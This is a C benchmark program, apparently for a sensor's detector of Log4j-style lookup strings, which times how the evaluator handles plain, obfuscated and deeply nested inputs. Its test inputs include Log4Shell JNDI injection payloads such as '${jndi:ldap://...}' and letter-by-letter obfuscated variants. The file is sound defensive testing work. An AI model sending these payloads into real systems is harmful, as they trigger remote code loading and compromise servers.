/* lookup_bench: what the evaluator costs, on plain look-ups and on the worst that is known.
 *
 * Prints for each text its length, the class, the time per evaluation and the fuel used. The last
 * line is the longest time per field of all; with the default fuel it is what a field can cost. */
#include "sensor/base/sbuf.h"
#include "signatures/lookup.h"

#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

enum { TEXT_CAP = LOOKUP_TEXT_MAX, MIN_US = 100000 };

static struct lookup *lookup;
static double longest_us;

/* Of this process: other load on the machine does not count. */
static uint64_t cpu_us(void)
{
    return (uint64_t)clock() * 1000000 / CLOCKS_PER_SEC;
}

static void measure(const char *name, struct span text)
{
    struct lookup_options options = {.time_us = UINT64_C(1639139696000000)};
    struct lookup_result result = {0};
    uint64_t fuel = 0;
    uint64_t n = 0;
    uint64_t start = cpu_us();
    uint64_t took = 0;
    for (uint64_t batch = 1; took < MIN_US; batch *= 2) {
        for (uint64_t i = 0; i < batch; i++) {
            fuel = LOOKUP_FUEL;
            options.fuel = &fuel;
            lookup_evaluate(lookup, text, &options, &result);
        }
        n += batch;
        took = cpu_us() - start;
    }
    double us = (double)took / (double)n;
    longest_us = us > longest_us ? us : longest_us;
    printf("%-28s %7zu bytes  %-11s %s %10.2f us %9" PRIu64 " units\n", name, text.len,
           lookup_class_name(result.class), result.over_budget ? "over" : "    ", us,
           LOOKUP_FUEL - fuel);
}

/* `head` n times, then `middle`, then `tail` n times. */
static void measure_nest(const char *name, const char *head, const char *middle, const char *tail,
                         unsigned n)
{
    struct sbuf text = sbuf_with_cap(TEXT_CAP);
    for (unsigned i = 0; i < n; i++) {
        sbuf_add_str(&text, head);
    }
    sbuf_add_str(&text, middle);
    for (unsigned i = 0; i < n; i++) {
        sbuf_add_str(&text, tail);
    }
    measure(name, sbuf_span(&text));
    sbuf_free(&text);
}

int main(void)
{
    lookup = lookup_new();
    if (lookup == NULL) {
        return EXIT_FAILURE;
    }
    measure("plain", SPAN("${jndi:ldap://x/a}"));
    measure("default letters", SPAN("${${::-j}${::-n}${::-d}${::-i}:${lower:LDAP}://x/${env:A}}"));
    measure("unclosed", SPAN("${jndi:ldap://203.0.113.9/a"));
    measure("harmless", SPAN("price is ${amount} for ${user.name:-you}"));
    measure_nest("40 copies", "${jndi:ldap://x/a} ", "", "", 40);
    measure_nest("nest of defaults 1600", "${:-", "${jndi:ldap://x/a}", "}", 1600);
    measure_nest("nest of defaults 4000", "${:-", "${jndi:ldap://x/a}", "}", 4000);
    measure_nest("nest of lower 1500", "${lower:", "${jndi:ldap://x/a}", "}", 1500);
    measure_nest("nest of unknown 1600", "${", "${jndi:ldap://x/a}", "}", 1600);
    measure_nest("nest of unknown 4000", "${a", "x", "}", 4000);
    measure_nest("openers", "${", "", "", 100000);
    measure_nest("openers and jndi", "${jndi:", "", "", 37000);
    measure_nest("escapes", "$$${", "jndi:x}", "", 60000);
    measure_nest("dollars", "$", "{jndi:x} ${z}", "${z}", 40000);
    measure_nest("unknown ones", "${a}", "", "", 60000);
    measure_nest("unknown ones, escaped", "$${a}", "", "", 50000);
    measure_nest("default names", "${jndi:a:-", "", "}", 2000);
    measure_nest("doubling", "${lower:$$$$$$${a:-", "${jndi:ldap://x/a}", "}}", 300);
    measure_nest("doubling defaults", "${a:-$${b:-", "x", "}}", 500);
    measure_nest("growing", "$${event:Message} ", "${z}", "", 3);
    measure_nest("colons", "${:", ":", "}", 4000);
    measure_nest("not ASCII", "${lower:\xc3\x84\xce\xa3", "${z}", "}", 3000);
    measure_nest("closing braces", "${a ", "", "}}}}", 30000);
    printf("longest: %.0f us\n", longest_us);
    lookup_free(&lookup);
    return EXIT_SUCCESS;
}
